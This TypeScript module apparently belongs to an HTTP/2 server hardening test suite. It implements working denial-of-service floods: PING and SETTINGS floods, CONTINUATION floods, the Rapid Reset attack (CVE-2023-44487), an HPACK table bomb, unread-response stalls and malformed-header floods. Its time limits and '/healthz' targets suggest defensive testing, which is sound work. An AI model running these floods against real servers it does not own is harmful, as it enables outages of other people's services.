/** Floods of frames, none of whose answers is read. */
import {
  concat,
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  hangUp,
  headerBlock,
  openTls,
  preface,
  push,
  request,
  requestFields,
  type Target,
  words,
} from "../wire.ts";

const ROUNDS = 200;
const BATCH = 500;

/** Sends `first`, then `frames` over and over until the server has had enough of it. */
async function flood(
  target: Target,
  { first = new Uint8Array(), batch }: {
    first?: Uint8Array;
    batch: (round: number) => Uint8Array;
  },
): Promise<void> {
  const conn = await openTls(target);
  const end = performance.now() + 3_000;
  let open = await push(conn, concat([preface(), first]));
  for (let round = 0; open && round < ROUNDS; round++) {
    if (performance.now() > end) break;
    // A server that stops reading is a good answer, too: do not wait for it.
    const wait = new AbortController();
    const timer = setTimeout(() => wait.abort(), 500);
    const blocked = new Promise<boolean>((resolve) =>
      wait.signal.addEventListener("abort", () => resolve(false))
    );
    open = await Promise.race([push(conn, batch(round)), blocked]);
    clearTimeout(timer);
  }
  hangUp(conn);
}

const repeat = (bytes: Uint8Array, times = BATCH) =>
  concat(Array<Uint8Array>(times).fill(bytes));

/** PINGs that ask for answers. */
export function pings(target: Target): Promise<void> {
  const ping = frame(FRAME.ping, { payload: new Uint8Array(8) });
  return flood(target, { batch: () => repeat(ping) });
}

/** SETTINGS that ask for acknowledgements. */
export function settings(target: Target): Promise<void> {
  const change = frame(FRAME.settings, {
    payload: new Uint8Array([0, 4, ...words(65_535)]),
  });
  return flood(target, { batch: () => repeat(change) });
}

/** CONTINUATION frames without an end. */
export function continuations(target: Target): Promise<void> {
  const block = headerBlock([["x", "a".repeat(1_000)]]);
  return flood(target, {
    first: frame(FRAME.headers, {
      stream: 1,
      flags: END_STREAM,
      payload: headerBlock(requestFields("/healthz")),
    }),
    batch: () =>
      repeat(frame(FRAME.continuation, { stream: 1, payload: block })),
  });
}

/** CONTINUATION frames with nothing in them. */
export function emptyContinuations(target: Target): Promise<void> {
  return flood(target, {
    first: frame(FRAME.headers, {
      stream: 1,
      payload: headerBlock(requestFields("/healthz")),
    }),
    batch: () => repeat(frame(FRAME.continuation, { stream: 1 })),
  });
}

/** Requests that are reset at once (CVE-2023-44487). */
export function rapidResets(target: Target): Promise<void> {
  return flood(target, {
    batch: (round) =>
      concat(
        Array.from({ length: BATCH / 10 }, (_, at) => {
          const stream = 1 + 2 * (round * (BATCH / 10) + at);
          return concat([
            request("/healthz", { stream }),
            frame(FRAME.rst, { stream, payload: words(8) }),
          ]);
        }),
      ),
  });
}

/** Requests whose answers are not read, so that their flow control never opens. */
export function unreadAnswers(target: Target): Promise<void> {
  return flood(target, {
    batch: (round) =>
      concat(
        Array.from(
          { length: 50 },
          (_, at) => request("/healthz", { stream: 1 + 2 * (round * 50 + at) }),
        ),
      ),
  });
}

/** A table entry of 4 KB that one request names thousands of times. */
export async function hpackBomb(target: Target): Promise<void> {
  const fill = concat([
    headerBlock(requestFields("/healthz")),
    // Literal with incremental indexing: it becomes entry 62 of the table.
    new Uint8Array([0x40]),
    headerBlock([["x", "a".repeat(3_900)]]).subarray(1),
  ]);
  const again = concat([
    headerBlock(requestFields("/healthz")),
    new Uint8Array(14_000).fill(0x80 | 62),
  ]);
  const flags = END_HEADERS | END_STREAM;
  for (let connection = 0; connection < 8; connection++) {
    await flood(target, {
      first: frame(FRAME.headers, { stream: 1, flags, payload: fill }),
      batch: (round) =>
        frame(FRAME.headers, { stream: 3 + 2 * round, flags, payload: again }),
    });
  }
}

/** Requests that are malformed at their end, after much that is in order. */
export function malformedRequests(target: Target): Promise<void> {
  const field = headerBlock([
    ...requestFields("/healthz"),
    ["x", "a".repeat(8_000)],
    ["Upper", "case"],
  ]);
  const flags = END_HEADERS | END_STREAM;
  return flood(target, {
    batch: (round) =>
      frame(FRAME.headers, { stream: 1 + 2 * round, flags, payload: field }),
  });
}

/** Empty DATA frames on a request body that never ends. */
export function emptyData(target: Target): Promise<void> {
  return flood(target, {
    first: request(target.paths.upload, { method: "POST", open: true }),
    batch: () => repeat(frame(FRAME.data, { stream: 1 })),
  });
}
